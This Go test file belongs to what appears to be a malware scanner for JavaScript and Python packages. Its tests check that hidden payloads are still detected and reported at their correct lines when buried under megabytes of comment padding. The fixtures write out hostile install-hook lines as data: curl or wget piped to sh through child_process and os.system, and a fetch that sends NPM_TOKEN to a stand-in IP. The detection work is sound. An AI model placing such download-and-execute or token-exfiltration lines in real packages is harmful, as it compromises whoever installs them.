package features

import (
	"bytes"
	"context"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"
)

// padding returns about n bytes of comment (or docstring) lines in a style.
func padding(style string, n int) string {
	var line string
	switch style {
	case "block": // one JS block comment
		body := strings.Repeat(" * lorem ipsum dolor sit amet, consectetur adipiscing elit\n", n/58+1)
		return "/*\n" + body + " */\n"
	case "line":
		line = "// lorem ipsum dolor sit amet, consectetur adipiscing elit\n"
	case "hash":
		line = "# lorem ipsum dolor sit amet, consectetur adipiscing elit\n"
	case "docstring":
		body := strings.Repeat("lorem ipsum dolor sit amet, consectetur adipiscing elit\n", n/56+1)
		return "\"\"\"\n" + body + "\"\"\"\n"
	}
	return strings.Repeat(line, n/len(line)+1)
}

func lineOf(src, needle string) int {
	i := strings.Index(src, needle)
	return strings.Count(src[:i], "\n") + 1
}

// A payload after any amount of comment padding is parsed (the padding is
// left out of the parse), and its events carry their real lines.
func TestPaddedPayload(t *testing.T) {
	e := newTestExtractor(t)
	const (
		jsPayload = "const cp = require('child_process');\ncp.execSync('curl http://x.invalid/p | sh');\n"
		pyPayload = "import os\nos.system('curl http://x.invalid/p | sh')\n"
	)
	cases := []struct {
		path, style, head, payload, call string
	}{
		{"postinstall.js", "block", "'use strict';\n", jsPayload, "cp.execSync("},
		{"postinstall.js", "line", "", jsPayload, "cp.execSync("},
		{"setup.py", "hash", "from setuptools import setup\n", pyPayload, "os.system("},
		{"setup.py", "docstring", "", pyPayload, "os.system("},
		{"pkg/__init__.py", "docstring", "def f():\n    return 1\n", pyPayload, "os.system("},
	}
	for _, c := range cases {
		for _, mib := range []int{1, 4, 16} {
			t.Run(fmt.Sprintf("%s/%s/%dMiB", c.path, c.style, mib), func(t *testing.T) {
				src := c.head + padding(c.style, mib<<20) + c.payload
				start := time.Now()
				fe := extract(t, e, c.path, src)
				took := time.Since(start)
				want := lineOf(src, c.call)
				got := map[string]int{}
				for _, ev := range fe.Events {
					if _, ok := got[ev.Token]; !ok {
						got[ev.Token] = ev.Line
					}
				}
				for _, tok := range []string{"process.call", "shell.script", "shell.download_exec"} {
					if got[tok] != want {
						t.Errorf("%s at line %d, want %d\n%s", tok, got[tok], want, dump(fe))
					}
				}
				if _, ok := got["process.import"]; !ok && c.style != "hash" && c.style != "docstring" {
					t.Errorf("no process.import:\n%s", dump(fe))
				}
				if fe.Truncated || fe.TimedOut || slices.Contains(tokens(fe), "parse.error") {
					t.Errorf("truncated %v, timed out %v, tokens %q", fe.Truncated, fe.TimedOut, tokens(fe))
				}
				if !raceEnabled && took > time.Second {
					t.Errorf("took %s", took)
				}
			})
		}
	}
}

// The same payload past the file parse budget of real code is seen by the
// lexical pass, at its line.
func TestLexicalPastBudget(t *testing.T) {
	e := New(Options{MaxParseBytes: 16 << 10, MaxFileParseBytes: 32 << 10})
	defer e.Close()
	lib := strings.Repeat("function add(a, b) { return a + b; }\n", 4000) // ~150 KB of code
	cases := []struct {
		path, src, call string
		want            []string
	}{
		{"a.js", "const cp = require('child_process');\n" + lib + "cp.exec('curl http://x.invalid/p | sh');\nfetch('http://192.0.2.1/x', {body: process.env.NPM_TOKEN});\n",
			"cp.exec(", []string{"process.call", "shell.script", "shell.download_exec", "url.ip", "net.call", "env.read"}},
		{"b.js", lib + "require('child_process').execSync(`wget http://x.invalid/p -O- | sh`);\n",
			"require('child_process').execSync(", []string{"process.import", "process.call", "shell.script", "shell.download_exec"}},
		{"c.py", "import subprocess as sp\n" + strings.Repeat("def add(a, b):\n    return a + b\n", 5000) +
			"sp.Popen(['sh', '-c', 'curl http://x.invalid/p | sh'])\nexec(compile(src, 'x', 'exec'))\nos.environ['HOME']\n",
			"sp.Popen(", []string{"process.call", "shell.script", "eval.call", "env.read"}},
	}
	for _, c := range cases {
		fe := extract(t, e, c.path, c.src)
		if !fe.Truncated || tokens(fe)[0] != "file.truncated" {
			t.Errorf("%s: not truncated: %q", c.path, tokens(fe))
		}
		line := lineOf(c.src, c.call)
		for _, tok := range c.want {
			found := false
			for _, ev := range fe.Events {
				if ev.Token == tok && ev.Line >= line {
					found = true
				}
			}
			if !found {
				t.Errorf("%s: no %s at or after line %d:\n%s", c.path, tok, line, dump(fe))
			}
		}
		for _, ev := range fe.Events {
			if ev.Token == "process.call" && ev.Line == line && !strings.Contains(ev.Snippet, c.call) {
				t.Errorf("%s: snippet %q", c.path, ev.Snippet)
			}
		}
	}
}

// Events of every window carry the file's lines: a file of repeated calls,
// parsed in many windows with comment runs left out, reports each call once,
// at its line.
func TestWindowLines(t *testing.T) {
	for _, lang := range []string{"js", "py"} {
		e := New(Options{MaxParseBytes: 8 << 10, MaxFileParseBytes: 1 << 30})
		var b strings.Builder
		var want []int
		line := 1
		for i := range 300 {
			switch {
			case i%50 == 7 && lang == "js":
				pad := padding("block", 5000)
				b.WriteString(pad)
				line += strings.Count(pad, "\n")
			case i%50 == 7:
				pad := padding("hash", 5000)
				b.WriteString(pad)
				line += strings.Count(pad, "\n")
			}
			if lang == "js" {
				fmt.Fprintf(&b, "function f%d(a) {\n  return a + %d;\n}\neval(x%d);\n", i, i, i)
			} else {
				fmt.Fprintf(&b, "def f%d(a):\n    return a + %d\n\neval(x%d)\n", i, i, i)
			}
			want = append(want, line+3)
			line += 4
		}
		fe := extract(t, e, "a."+lang, b.String())
		e.Close()
		var got []int
		for _, ev := range fe.Events {
			if ev.Token == "eval.call" {
				got = append(got, ev.Line)
				if !strings.HasPrefix(ev.Snippet, "eval(x") {
					t.Errorf("%s: snippet %q at %d", lang, ev.Snippet, ev.Line)
				}
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("%s: eval.call lines\n%v\nwant\n%v", lang, got, want)
		}
		if fe.Truncated || slices.Contains(tokens(fe), "parse.error") {
			t.Errorf("%s: %q", lang, tokens(fe))
		}
	}
}

// Cut candidates are never inside a string, comment, template or regular
// expression, and drops are whole lines of comment or docstring text only.
func TestLexStructure(t *testing.T) {
	big := strings.Repeat("x\n", minDrop)
	cases := []struct {
		name, lang, src string
		inert           []string // contents that must not hold a cut
		dropped         string   // the text dropped, if any
	}{
		{"js strings", "js", "a = 'x;\\\ny';\nb = \"p;\\\nq\";\nc = 1;\n", []string{"'x;\\\ny'", "\"p;\\\nq\""}, ""},
		{"js template", "js", "t = `a;\nb ${ {x: `c;\n`} } d;\ne`;\nz = 1;\n", []string{"`a;\nb ${ {x: `c;\n`} } d;\ne`"}, ""},
		{"js regex", "js", "r = /a;\\/\n/;\ns = x / y;\nq = /[/;]/g;\n", []string{"/[/;]/g"}, ""},
		{"js block comment", "js", "a = 1; /* c;\n" + big + "*/ b = 2;\n", []string{"/* c;\n" + big + "*/"}, big},
		{"js line comments", "js", "a = 1;\n" + strings.ReplaceAll(big, "x", "// ;") + "b = 2;\n", nil, strings.ReplaceAll(big, "x", "// ;")},
		{"py strings", "py", "a = '''x\ny'''\nb = f\"c\\\nd\"\nc = 1\n", []string{"'''x\ny'''", "f\"c\\\nd\""}, ""},
		{"py docstring", "py", "def f():\n    \"\"\"doc\n" + big + "\"\"\"\n    return 1\n", []string{"\"\"\"doc\n" + big + "\"\"\""}, big},
		{"py string arg", "py", "exec('''\n" + big + "''')\n", []string{"'''\n" + big + "'''"}, ""},
		{"py hash", "py", "import os\n" + strings.ReplaceAll(big, "x", "# (") + "os.system('x')\n", nil, strings.ReplaceAll(big, "x", "# (")},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			lang := langJS
			if c.lang == "py" {
				lang = langPython
			}
			src := []byte(c.src)
			l := newLexer(lang, src)
			l.structure = true
			l.run(0, len(src), 0)
			for _, in := range c.inert {
				i := bytes.Index(src, []byte(in))
				if i < 0 {
					t.Fatalf("%q not in source", in)
				}
				for _, ct := range l.cuts {
					if ct.off > i && ct.off < i+len(in) {
						t.Errorf("cut at %d inside %q", ct.off, in)
					}
				}
			}
			var dropped []byte
			for _, d := range l.drops {
				if d.start > 0 && src[d.start-1] != '\n' || src[d.end-1] != '\n' {
					t.Errorf("drop [%d,%d) is not whole lines", d.start, d.end)
				}
				dropped = append(dropped, src[d.start:d.end]...)
			}
			if string(dropped) != c.dropped {
				t.Errorf("dropped %q..., want %q...", head(dropped), head([]byte(c.dropped)))
			}
			if len(c.inert) == 0 && len(l.cuts) == 0 {
				t.Error("no cut candidates")
			}
		})
	}
}

func head(b []byte) string { return string(b[:min(len(b), 40)]) }

// The lexer finds the code runs and literals of the lexical pass.
func TestLexSpans(t *testing.T) {
	cases := []struct {
		lang    langID
		src     string
		strs    []string
		noCode  []string // text that is in no code run
		comment string
	}{
		{langJS, "a('s1'); /* c1 */ b(\"s2\") // c2\nc(`t${d('s3')}u`)\n", []string{"s1", "s2", "t", "s3", "u"}, []string{"c1", "c2"}, ""},
		{langPython, "a('s1')  # c1\nb(rb'''s2\n''')\nc(f\"s3\")\n", []string{"s1", "s2\n", "s3"}, []string{"c1"}, ""},
	}
	for _, c := range cases {
		src := []byte(c.src)
		l := newLexer(c.lang, src)
		var strs []string
		var code strings.Builder
		l.onString = func(s, e, _ int) { strs = append(strs, string(src[s:e])) }
		l.onCode = func(s, e, _ int) { code.Write(src[s:e]) }
		l.run(0, len(src), 0)
		if !slices.Equal(strs, c.strs) {
			t.Errorf("%q: strings %q, want %q", c.src, strs, c.strs)
		}
		for _, n := range c.noCode {
			if strings.Contains(code.String(), n) {
				t.Errorf("%q: %q in code %q", c.src, n, code.String())
			}
		}
	}
}

// The windows of a file cover it exactly, each within the window size, and
// their row maps agree with the file's lines.
func TestWindows(t *testing.T) {
	var b strings.Builder
	for i := range 2000 {
		switch i % 7 {
		case 0:
			fmt.Fprintf(&b, "var s%d = 'a;b';\n", i)
		case 1:
			b.WriteString(padding("line", 5000))
		case 2:
			fmt.Fprintf(&b, "x%d = `line\n${y}\n`;\n", i)
		default:
			fmt.Fprintf(&b, "if (a) { f(%d); }\n", i)
		}
	}
	src := []byte(b.String())
	checkWindows(t, langJS, src, 4<<10)
}

func checkWindows(t *testing.T, lang langID, src []byte, w int) {
	t.Helper()
	ly := scanLayout(lang, src)
	ws, row, n := 0, 0, 0
	fileLines := bytes.Split(src, []byte{'\n'})
	var buf []byte
	var segs []rowSeg
	for ws < len(src) {
		we := ly.next(src, ws, w)
		if we <= ws || we > len(src) {
			t.Fatalf("window [%d,%d) of %d", ws, we, len(src))
		}
		if k := ly.kept(we) - ly.kept(ws); k > w {
			t.Fatalf("window [%d,%d) keeps %d bytes > %d", ws, we, k, w)
		}
		var endRow int
		buf, segs, endRow = ly.build(src, ws, we, row, buf[:0], segs[:0])
		if want := row + bytes.Count(src[ws:we], []byte{'\n'}); endRow != want {
			t.Fatalf("window [%d,%d) ends on row %d, want %d", ws, we, endRow, want)
		}
		// Every line of the parse input is the file line its row maps to.
		lines := bytes.Split(buf, []byte{'\n'})
		for r, ln := range lines {
			fr := mapRow(segs, r)
			if fr >= len(fileLines) || !bytes.Contains(fileLines[fr], ln) {
				t.Fatalf("window [%d,%d) row %d maps to %d: %q vs %q", ws, we, r, fr, ln, fileLines[min(fr, len(fileLines)-1)])
			}
		}
		ws, row = we, endRow
		n++
	}
	if n < 2 && len(src) > w {
		t.Errorf("%d windows", n)
	}
}

// FuzzLexer runs the lexer and the windowing over arbitrary input: no panic,
// windows that cover the input and row maps that agree with it.
func FuzzLexer(f *testing.F) {
	for _, s := range []string{
		"a = 'x';\n/* c */ b(`t${`u${v}`}`);\n// d\n", "r = /[/]\\//g; x = a / b / c;\n", "'unterminated\n\"\\",
		"def f():\n    '''doc\n'''\n    return b'x' rf\"\"\"y\"\"\"\n", "x = (\n  1, # c\n)\\\n", "`${", "}}}`", "/*", "'''",
	} {
		f.Add(s, false)
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, s string, py bool) {
		lang := langJS
		if py {
			lang = langPython
		}
		src := []byte(s)
		checkWindows(t, lang, src, 16)
		x := newLexicalAnalysis(lang, "f", src, nil)
		x.run(0, len(src), 0)
		for _, ev := range x.events {
			if ev.Line < 1 || ev.Line > bytes.Count(src, []byte{'\n'})+1 || !utf8Valid(ev.Snippet) {
				t.Fatalf("event %+v", ev)
			}
		}
	})
}

// BenchmarkLexer16MiB measures the structure pass over 16 MiB of comment
// padding and of minified-style code.
func BenchmarkLexer16MiB(b *testing.B) {
	for _, c := range []struct{ name, unit string }{
		{"comments", padding("line", 1<<10)},
		{"code", "var a=function(b){return b.c(\"d;\",/e\\//g)+`f${g}`};if(h){i(j,'k')}\n"},
	} {
		src := []byte(strings.Repeat(c.unit, (16<<20)/len(c.unit)))
		b.Run(c.name, func(b *testing.B) {
			b.SetBytes(int64(len(src)))
			for b.Loop() {
				scanLayout(langJS, src)
			}
		})
	}
}

var _ = context.Background
